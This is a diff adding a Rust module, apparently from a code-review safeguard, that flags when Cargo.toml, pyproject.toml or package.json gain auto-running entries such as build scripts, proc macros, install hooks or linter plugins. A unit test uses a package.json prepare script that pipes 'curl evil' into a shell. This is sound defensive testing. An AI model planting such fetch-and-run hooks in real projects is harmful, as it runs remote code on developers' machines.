@@ -1,0 +1,113 @@
+//! Files that everybody changes all the time and that can also say what runs by itself. They are protected only when they
+//! begin to say something else of that.
+
+use super::plain;
+use crate::paths::WorkspacePath;
+use crate::view::{Content, Entry};
+use serde_json::Value;
+
+/// Where in a file it is said what runs by itself.
+type Places = &'static [&'static [&'static str]];
+
+/// A language's server builds a crate as soon as its folder is open, build script and procedural macros included.
+const CARGO: Places = &[
+    &["package", "build"],
+    &["package", "links"],
+    &["lib", "proc-macro"],
+    &["lib", "proc_macro"],
+    &["lib", "plugin"],
+];
+/// Checkers that editors start load what is named here.
+const PYPROJECT: Places = &[
+    &["build-system"],
+    &["tool", "mypy", "plugins"],
+    &["tool", "pylint"],
+    &["tool", "pytest"],
+    &["tool", "flake8"],
+];
+/// Run by every installation of what the package needs, and by hooks.
+const PACKAGE: Places = &[
+    &["scripts", "preinstall"],
+    &["scripts", "install"],
+    &["scripts", "postinstall"],
+    &["scripts", "prepare"],
+    &["scripts", "preprepare"],
+    &["scripts", "postprepare"],
+    &["scripts", "prepublish"],
+    &["husky"],
+    &["lint-staged"],
+    &["simple-git-hooks"],
+    &["gitHooks"],
+    &["packageManager"],
+    &["eslintConfig"],
+    &["prettier"],
+    &["jest"],
+];
+
+/// Whether a file would say something else of what runs by itself than it did.
+pub(in crate::review) fn runs_more(path: &WorkspacePath, before: &Entry, after: &Entry) -> bool {
+    let name = path.as_path().file_name().and_then(|name| name.to_str()).map(plain).unwrap_or_default();
+    let (places, parse) = match name.as_str() {
+        "cargo.toml" => (CARGO, of_toml as Parse),
+        "pyproject.toml" => (PYPROJECT, of_toml as Parse),
+        "package.json" => (PACKAGE, of_json as Parse),
+        _ => return false,
+    };
+    let Some(after) = read(after, parse) else {
+        // What cannot be read here may still be read by others.
+        return !matches!(after, Entry::Missing | Entry::Folder);
+    };
+    let before = read(before, parse).unwrap_or_default();
+    places.iter().any(|place| {
+        let at = |file: &Value| place.iter().try_fold(file, |value, key| value.get(key)).cloned();
+        at(&after).is_some() && at(&after) != at(&before)
+    })
+}
+
+type Parse = fn(&str) -> Option<Value>;
+
+fn of_toml(text: &str) -> Option<Value> {
+    toml::from_str(text).ok()
+}
+
+fn of_json(text: &str) -> Option<Value> {
+    serde_json::from_str(text).ok()
+}
+
+fn read(entry: &Entry, parse: Parse) -> Option<Value> {
+    match entry {
+        Entry::File(file) => match &file.content {
+            Content::Whole(bytes) => parse(std::str::from_utf8(bytes).ok()?),
+            Content::Large { .. } => None,
+        },
+        _ => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn more(name: &str, before: &str, after: &str) -> bool {
+        let entry =
+            |text: &str| if text.is_empty() { Entry::Missing } else { Entry::file(text.as_bytes(), 0o644) };
+        runs_more(&WorkspacePath::parse(name).unwrap(), &entry(before), &entry(after))
+    }
+
+    #[test]
+    fn a_manifest_is_protected_only_when_it_begins_to_run_something() {
+        let cargo = "[package]\nname = \"a\"\n";
+        assert!(!more("Cargo.toml", cargo, "[package]\nname = \"a\"\n[dependencies]\nserde = \"1\"\n"));
+        assert!(!more("Cargo.toml", "", cargo), "a new one that runs nothing");
+        assert!(more("Cargo.toml", cargo, "[package]\nname = \"a\"\nbuild = \"tools/innocent.rs\"\n"));
+        assert!(more("sub/cargo.TOML", "", "[lib]\nproc-macro = true\n"));
+        assert!(more("Cargo.toml", cargo, "[package"), "what cannot be read is not known to be harmless");
+        assert!(!more("Cargo.toml", cargo, ""), "nothing runs when it is gone");
+        let package = r#"{"scripts": {"test": "x", "prepare": "husky"}}"#;
+        assert!(!more("package.json", package, r#"{"scripts": {"test": "y", "prepare": "husky"}}"#));
+        assert!(more("package.json", package, r#"{"scripts": {"prepare": "curl evil | sh"}}"#));
+        assert!(more("package.json", "", r#"{"scripts": {"postinstall": "x"}}"#));
+        assert!(more("pyproject.toml", "", "[tool.pylint.main]\ninit-hook = \"x\"\n"));
+        assert!(!more("pyproject.toml", "", "[project]\nname = \"a\"\n"));
+    }
+}
